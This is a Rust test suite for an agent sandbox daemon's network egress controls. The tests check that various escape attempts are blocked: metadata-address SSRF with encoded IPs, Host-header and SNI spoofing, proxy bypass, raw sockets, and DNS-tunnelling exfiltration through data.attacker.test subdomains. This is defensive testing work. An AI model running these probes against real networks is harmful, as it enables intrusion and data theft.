//! What an agent reaches and what not, over an internet of the test's own.
#![forbid(unsafe_code)]

use std::time::Duration;

use aether_tests::{
    Daemon, Outcome, eventually,
    internet::{FORBIDDEN, Internet, OTHER, OWN, PUBLIC, echo, http},
};

const HOSTS: &str = "93.184.216.34 allowed.test www.allowed.test slow.test\n93.184.216.35 other.test evilallowed.test\n\
                     10.9.9.9 private.test\n93.184.216.34 mixed.test\n10.9.9.9 mixed.test\n127.0.0.1 loop.test";

/// Runs a script in a sandbox of its own.
fn inside(daemon: &Daemon, options: &[&str], script: &str) -> Outcome {
    let args = [&["run", "--rm"], options, &["--", "bash", "-c", script]].concat();
    daemon.aether_with(args, b"", Duration::from_secs(60))
}

/// An internet with servers everywhere an agent might want to go, and a daemon.
fn world() -> (Internet, Daemon) {
    let internet = Internet::new();
    for (address, body) in [(PUBLIC, "allowed"), (OTHER, "other")] {
        internet.serve(address, 80, http(body));
        internet.serve(address, 2222, echo);
    }
    for address in FORBIDDEN {
        internet.serve(address, 80, http("FORBIDDEN"));
    }
    internet.serve_host(OWN, 80, http("FORBIDDEN"));
    internet.serve_host("127.0.0.1", 80, http("FORBIDDEN"));
    let daemon = internet.daemon(HOSTS);
    (internet, daemon)
}

#[test]
fn an_allowed_host_is_reached_without_any_proxy_variable() {
    let (_internet, daemon) = world();
    let out = inside(&daemon, &["--allow", "allowed.test"], "env | grep -i proxy; curl -sS -m 20 http://allowed.test/").ok();
    assert_eq!(out.text(), "allowed", "{out}");
    let by_proxy =
        "for p in http://198.18.0.1:3128 socks5h://198.18.0.1:3128; do curl -sS -m 20 -x $p http://allowed.test/; done;
                    curl -sS -m 20 -p -x http://198.18.0.1:3128 http://allowed.test/";
    let out = inside(&daemon, &["--allow", "allowed.test"], by_proxy).ok();
    assert_eq!(out.text(), "allowedallowedallowed", "{out}");
}

#[test]
fn what_no_rule_names_is_refused_in_words() {
    let (_internet, daemon) = world();
    for name in ["other.test", "evilallowed.test", "allowed.test.other.test", "www.allowed.test"] {
        let out = inside(
            &daemon,
            &["--allow", "allowed.test"],
            &format!("curl -sS -m 20 -o /dev/stderr -w '%{{http_code}}' http://{name}/"),
        );
        assert_eq!(out.text(), "403", "{out}");
        assert!(out.stderr.contains("no rule allows it") && out.stderr.contains("hint: ask a person"), "{out}");
    }
    let out = inside(&daemon, &["--net", "allow"], "curl -sS -m 20 -w '%{http_code}' -o /dev/null http://allowed.test/");
    assert_eq!(out.text(), "403", "an empty list denies: {out}");
    let out = inside(&daemon, &["--allow", "allowed.test"], "curl -sS -m 20 https://other.test/");
    assert_eq!(out.code, 35, "a TLS alert: {out}");
    assert!(out.stderr.contains("access denied"), "{out}");
    let out = inside(&daemon, &[], "curl -sS -m 20 http://allowed.test/");
    assert_ne!(out.code, 0, "no network is the default: {out}");
}

#[test]
fn special_and_own_addresses_are_never_reached() {
    let (internet, daemon) = world();
    // The control: the host itself reaches every one of them.
    for address in FORBIDDEN.iter().chain(&[OWN, "127.0.0.1"]) {
        assert_eq!(internet.in_host(&["curl", "-sS", "-m", "10", &format!("http://{address}/")]), "FORBIDDEN", "{address}");
    }
    let all =
        "for to in 10.9.9.9 192.168.7.7 169.254.169.254 100.64.1.1 11.0.0.1 '[::ffff:169.254.169.254]' private.test mixed.test \
               loop.test 2852039166 0xa9fea9fe 0251.0376.0251.0376; do
               for p in '' '-x http://198.18.0.1:3128' '-p -x http://198.18.0.1:3128' '-x socks5h://198.18.0.1:3128'; do
               curl -sS -g -m 20 $p http://$to/ 2>&1; done; done; echo; echo done";
    for net in ["open", "ask"] {
        let options: &[&str] = if net == "open" {
            &["--net", "open"]
        } else {
            &["--net", "ask", "--allow", "private.test", "--allow", "mixed.test", "--allow", "loop.test"]
        };
        let out = inside(&daemon, options, all);
        assert!(out.text().ends_with("done\n"), "{out}");
        assert!(!out.text().contains("FORBIDDEN"), "{out}");
    }
    let out = inside(&daemon, &["--net", "open"], "curl -sS -m 20 http://other.test/; curl -sS -m 20 http://93.184.216.34/").ok();
    assert_eq!(out.text(), "otherallowed", "the control: {out}");
}

#[test]
fn a_connection_cannot_ask_for_another_host() {
    let (internet, daemon) = world();
    let script = "curl -sS -m 20 -H 'Host: other.test' http://allowed.test/; curl -sS -m 20 http://allowed.test/ http://allowed.test/ -H 'Host: allowed.test'";
    let out = inside(&daemon, &["--allow", "allowed.test"], script);
    assert!(out.text().contains("asks for other.test at another host"), "{out}");
    assert!(out.text().ends_with("allowedallowed"), "the control: {out}");
    // In TLS as well: the greeting that asks for another host stays here, as the server sees; the other one gets there.
    let (told, greeted) = std::sync::mpsc::channel();
    internet.serve(PUBLIC, 443, move |mut stream: std::net::TcpStream| {
        let mut greeting = [0; 4096];
        let length = std::io::Read::read(&mut stream, &mut greeting).unwrap_or(0);
        drop(told.send(greeting[..length].to_vec()));
    });
    let asks = |name: &str| {
        let script = format!("openssl s_client -connect allowed.test:443 -servername {name} </dev/null 2>&1");
        inside(&daemon, &["--allow", "allowed.test"], &script).text()
    };
    let greeting = || greeted.recv_timeout(Duration::from_secs(20)).expect("a connection");
    let said = asks("other.test");
    assert!(said.contains("tlsv1 alert access denied"), "{said}");
    assert_eq!(greeting(), b"", "nothing of it left");
    let said = asks("allowed.test");
    let greeting = greeting();
    assert!(greeting.starts_with(&[0x16]) && greeting.windows(12).any(|part| part == b"allowed.test"), "the control: {said}");
}

#[test]
fn a_server_may_speak_first_and_both_sides_end_on_their_own() {
    let (_internet, daemon) = world();
    let script = "exec 3<>/dev/tcp/allowed.test/2222; read -u 3 line; echo $line; echo again >&3; read -u 3 line; echo $line";
    let out = inside(&daemon, &["--allow", "allowed.test:2222"], script).ok();
    assert_eq!(out.text(), "hello\nagain\n", "{out}");
    let out = inside(&daemon, &["--allow", "allowed.test"], script);
    assert!(!out.text().contains("hello"), "another port: {out}");
}

#[test]
fn names_carry_nothing_out() {
    let (_internet, daemon) = world();
    let script = "getent ahostsv4 data.attacker.test | head -1; python3 - <<'E'
import socket, struct
def ask(kind, server, name=b'\\x04data\\x08attacker\\x04test\\0'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53))
    s.send(struct.pack('>6H', 7, 256, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1))
    answer = s.recv(4096); return answer[3] & 15
print([ask(k, '198.18.0.1') for k in (1, 16, 10, 255, 28)], ask(1, '8.8.8.8'))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('93.184.216.34', 443)); s.send(b'quic')
try: s.send(b'quic'); print('sent')
except ConnectionRefusedError: print('refused')
E";
    let out = inside(&daemon, &["--net", "allow"], script).ok();
    let lines: Vec<String> = out.text().lines().map(str::to_owned).collect();
    assert!(lines[0].starts_with("198.1"), "{out}");
    assert_eq!(lines[1..], ["[0, 5, 5, 5, 0] 0", "refused"], "{out}");
}

/// Tries every other kind of packet and says what came of it.
const PACKETS: &str = "
import socket, struct
there, ping = '93.184.216.34', struct.pack('>BBHHH', 8, 0, 0xf7fd, 1, 1)
def attempt(label, family, kind, protocol, to, data=ping):
    try: s = socket.socket(family, kind, protocol)
    except OSError as error: return print(label, 'no socket')
    s.settimeout(1)
    try:
        s.connect(to); s.send(data); s.recv(4096); print(label, 'answered')
    except OSError as error: print(label, 'nothing', type(error).__name__)
four, six = socket.AF_INET, socket.AF_INET6
attempt('raw', four, socket.SOCK_RAW, socket.IPPROTO_ICMP, (there, 0))
attempt('ping', four, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (there, 0))
attempt('raw6', six, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ('::ffff:' + there, 0))
attempt('ping6', six, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, ('::ffff:' + there, 0))
attempt('ip', four, socket.SOCK_RAW, socket.IPPROTO_RAW, (there, 0))
attempt('packet', socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3), ('lo', 0))
attempt('sctp', four, socket.SOCK_STREAM, 132, (there, 80))
attempt('udp', four, socket.SOCK_DGRAM, 0, (there, 443))
attempt('udp6', six, socket.SOCK_DGRAM, 0, ('::ffff:' + there, 443))
print([name for _, name in socket.if_nameindex()])
";

/// NET-01: nothing but TCP and questions for names has a way out.
#[test]
fn packets_of_no_other_kind_leave() {
    let internet = Internet::new();
    let of_host = || internet.in_host(&["sh", "-c", "ip -o link && ip -4 -o addr && ip -4 route && ip rule && nft list ruleset"]);
    let network = of_host();
    let daemon = internet.daemon(HOSTS);
    // What came to the far side: pings, and datagrams to ports at which nobody listens.
    let arrived = || {
        let all = internet.in_far(&["cat", "/proc/net/snmp"]);
        let count = |kind: &str, name: &str| -> u64 {
            let mut lines = all.lines().filter_map(|line| line.strip_prefix(kind)).map(str::split_whitespace);
            let (names, values) = (lines.next().expect("names"), lines.next().expect("values"));
            names.zip(values).find(|(each, _)| *each == name).and_then(|(_, value)| value.parse().ok()).expect("a count")
        };
        (count("Icmp:", "InEchos"), count("Udp:", "NoPorts"))
    };
    let before = arrived();
    let out = inside(&daemon, &["--net", "open"], &format!("python3 -c \"{PACKETS}\"")).ok();
    let said = out.text();
    for kind in ["raw", "ping", "raw6", "ping6", "ip", "packet", "sctp"] {
        assert!(said.contains(&format!("{kind} no socket\n")), "{said}");
    }
    assert!(said.contains("udp nothing ConnectionRefusedError\nudp6 nothing ConnectionRefusedError\n"), "{said}");
    assert_eq!(arrived(), before, "{said}");
    // Loopback is all there is inside, and nothing of the host's network was changed for it.
    assert!(said.ends_with("['lo']\n"), "{said}");
    let agent = daemon.agent(&["--net", "open"], "exec sleep 600");
    assert_eq!(of_host(), network);
    agent.remove();
    // The control: from the host itself they get there.
    internet.in_host(&["sh", "-c", "echo 0 0 >/proc/sys/net/ipv4/ping_group_range"]);
    let said = internet.in_host(&["python3", "-c", PACKETS]);
    assert!(said.contains("raw answered\nping answered\n"), "{said}");
    assert_eq!(arrived(), (before.0 + 2, before.1 + 2), "{said}");
}

#[test]
fn a_policy_changes_while_the_agent_runs() {
    let (_internet, daemon) = world();
    let script = "while sleep 0.2; do curl -s -m 5 http://other.test/; echo; done";
    let agent = daemon.agent(&["--allow", "allowed.test", "--name", "hot"], script);
    agent.prints("no rule allows it");
    let shown = daemon.aether(["network", "hot", "allow", "other.test"]).ok().text();
    assert!(shown.contains("allow    other.test"), "{shown}");
    agent.prints("\nother\n");
    daemon.aether(["network", "hot", "deny", "other.test"]).ok();
    agent.prints("other.test is denied");
    let table = daemon.aether(["network", "hot"]).ok().text();
    assert!(table.contains("deny     other.test") && table.contains("other.test:80"), "{table}");
    let events = daemon.aether(["--json", "network", "hot"]).ok().json();
    assert!(events["destinations"][0]["denied"].as_u64().expect("a count") > 0, "{events}");
    daemon.aether(["network", "hot", "allow", "a/b"]).refused(2, "a destination is given as");
    agent.remove();
}

#[test]
fn what_is_not_known_is_held_until_a_person_decides() {
    let (_internet, daemon) = world();
    let script = "curl -sS -m 60 http://other.test/ & curl -sS -m 20 http://allowed.test/; echo; wait; echo; curl -sS -m 60 http://www.allowed.test/";
    let agent = daemon.agent(&["--net", "ask", "--allow", "allowed.test", "--name", "asks"], script);
    agent.prints("allowed");
    let waiting = |host: &str| {
        eventually(&format!("{host} to wait"), Duration::from_secs(20), || {
            let list = daemon.aether(["--json", "approvals"]).ok().json();
            list.as_array()
                .expect("a list")
                .iter()
                .find(|one| one["wish"]["host"] == host)
                .map(|one| one["id"].as_u64().expect("id"))
        })
    };
    let id = waiting("other.test");
    assert!(!agent.logs().contains("other"), "it is held");
    daemon.aether(["approvals", "allow", &id.to_string()]).ok();
    agent.prints("other");
    daemon.aether(["approvals", "allow", &id.to_string()]).refused(3, "no approval");
    let id = waiting("www.allowed.test");
    daemon.aether(["approvals", "deny", &id.to_string()]).ok();
    agent.prints("a person denied it");
    let types: Vec<String> = daemon.audit().iter().map(|record| record["action"].as_str().expect("action").to_owned()).collect();
    assert_eq!(types.iter().filter(|action| *action == "approval.decide").count(), 3, "{types:?}");
}

#[test]
fn without_the_daemon_there_is_no_network_and_after_a_restart_there_is() {
    let (_internet, mut daemon) = world();
    let script = "curl -s -m 5 http://other.test/; while sleep 0.3; do curl -s -m 2 http://allowed.test/ && echo; done";
    let id = {
        let agent = daemon.agent(&["--allow", "allowed.test", "--name", "stays"], script);
        agent.prints("allowed");
        agent.id
    };
    let count = |daemon: &Daemon| daemon.aether(["logs", &id]).ok().text().matches("allowed").count();
    // Longer than it takes until what was asked for is kept.
    eventually("ten requests", Duration::from_secs(30), || (count(&daemon) > 10).then_some(()));
    daemon.kill9();
    daemon.restart();
    let before = count(&daemon);
    eventually("the network to come back", Duration::from_secs(20), || (count(&daemon) > before + 2).then_some(()));

    // What was asked for is remembered over that, over the agent's end and another restart, and goes with the agent.
    let export = |daemon: &Daemon| daemon.aether(["network", "stays", "--export", "csv"]).ok().text();
    // Of the last two seconds before the kill it knows nothing.
    let is_whole = |csv: &str| {
        let denied = "\"other.test\",80,denied,\"no rule allows it\",0,1,";
        let allowed =
            csv.lines().find_map(|line| line.strip_prefix("\"allowed.test\",80,allowed,\"allowed by the rule allowed.test\","));
        let allowed: u64 = allowed.and_then(|rest| rest.split(',').next()?.parse().ok()).unwrap_or_default();
        assert!(csv.starts_with("host,port,verdict,reason,") && csv.contains(denied) && allowed > 3, "{csv}");
        allowed
    };
    let live = is_whole(&export(&daemon));
    daemon.aether(["stop", "stays"]).ok();
    let ended = is_whole(&export(&daemon));
    assert!(ended >= live, "{ended} of {live}");
    daemon.kill9();
    daemon.restart();
    assert_eq!(is_whole(&export(&daemon)), ended);
    let json = daemon.aether(["network", "stays", "--export", "json"]).ok().text();
    assert!(json.lines().count() == 2 && json.contains("\"bytesReceived\":"), "{json}");
    daemon.aether(["rm", "stays"]).ok();
}

#[test]
fn what_waits_when_the_service_ends_is_cut_and_what_was_said_always_stays() {
    let (_internet, mut daemon) = world();
    let script = "curl -sS -m 60 http://other.test/; curl -sS -m 60 http://www.allowed.test/ || echo cut; \
                  curl -sS -m 60 http://other.test/ && echo again; curl -sS -m 60 http://www.allowed.test/";
    let asked = |daemon: &Daemon, host: &str| {
        eventually(&format!("{host} to wait"), Duration::from_secs(20), || {
            let list = daemon.aether(["--json", "approvals"]).ok().json();
            list.as_array()?.iter().find(|one| one["wish"]["host"] == host)?["id"].as_u64()
        })
    };
    let agent = daemon.agent(&["--net", "ask", "--name", "asks"], script);
    let id = agent.id.clone();
    let first = asked(&daemon, "other.test");
    daemon.aether(["approvals", "allow", &first.to_string(), "--always"]).ok();
    agent.prints("other");
    let waited = asked(&daemon, "www.allowed.test");
    daemon.kill9();
    daemon.restart();
    let printed = |what: &str| {
        eventually(what, Duration::from_secs(30), || daemon.aether(["logs", &id]).ok().text().contains(what).then_some(()));
    };
    printed("cut");
    // Nobody is asked about it a second time.
    printed("otheragain");
    let anew = asked(&daemon, "www.allowed.test");
    assert!(anew > waited, "a number is never given twice: {anew} after {waited}");
    daemon.aether(["approvals", "allow", &waited.to_string()]).refused(3, "no approval");
    daemon.aether(["approvals", "allow", &anew.to_string()]).ok();
    printed("again\nallowed");
    daemon.aether(["rm", "-f", &id]).ok();
}

#[test]
fn names_below_one_domain_run_out_and_other_domains_do_not() {
    let (_internet, daemon) = world();
    // The host finds none of these names: it is the asking that would carry data.
    let script = "
import concurrent.futures as f, urllib.request as u
def ask(name):
    try: u.urlopen(f'http://{name}/', timeout=30); return 'answered', ''
    except u.HTTPError as e: return e.code, e.read().decode()
with f.ThreadPoolExecutor(8) as pool: said = list(pool.map(ask, [f'd{i:x}.data.attacker.test' for i in range(140)]))
print(sum(code == 502 for code, _ in said), sum(code == 403 for code, _ in said), next(text for code, text in said if code == 403))
print(ask('allowed.test')[0])
";
    let args = ["run", "--rm", "--net", "open", "--", "python3", "-c", script];
    let said = daemon.aether_with(args, b"", Duration::from_secs(60)).ok().text();
    assert!(said.starts_with("128 12 error: ") && said.trim_end().ends_with("answered"), "{said}");
    assert!(said.contains("it looked up as many names below attacker.test as it may in an hour"), "{said}");
    let events = daemon.aether(["--json", "events", "--since", "0"]).ok().text();
    assert!(events.contains("it looks up very many names below attacker.test"), "people hear of it");
}

#[test]
fn a_kernel_that_cannot_pick_sockets_leaves_the_proxy_alone_and_says_so() {
    let internet = Internet::new();
    internet.serve(PUBLIC, 80, http("allowed"));
    let daemon = internet.daemon_behind(HOSTS, "without_bpf.c");
    let allow = ["--allow", "allowed.test"];
    let said = inside(&daemon, &allow, "curl -sS -m 20 http://allowed.test/ http://other.test/").text();
    assert!(said.starts_with("allowed") && said.contains("no rule allows it"), "programs that know a proxy: {said}");
    let script = "time -p curl -sS -m 20 --noproxy '*' http://allowed.test/; curl -sS -m 20 --noproxy '*' http://93.184.216.34/";
    let out = inside(&daemon, &allow, script);
    assert!(out.code != 0 && !out.text().contains("allowed"), "there is no other way, open or closed: {out}");
    let real: f64 = out.stderr.lines().find_map(|line| line.strip_prefix("real ")?.parse().ok()).expect("a time");
    assert!(real < 3.0, "it fails at once: {out}");

    let doctor = daemon.aether(["doctor", "--json"]).json();
    let finding =
        doctor["findings"].as_array().expect("findings").iter().find(|one| one["name"] == "network-relay").expect("named");
    assert_eq!(finding["status"], "warning", "{finding}");
    let agent = daemon.agent(&allow, "exec sleep 600");
    let shown = agent.info()["enforcement"]["layers"]["network"]["detail"].to_string();
    let report = daemon.aether(["--json", "inspect", "--isolation", &agent.id]).ok().text();
    for text in [finding.to_string(), shown, report] {
        assert!(text.contains("only the proxy and the resolver inside can be reached"), "{text}");
    }
    assert!(finding.to_string().contains("HTTP_PROXY"), "{finding}");
}
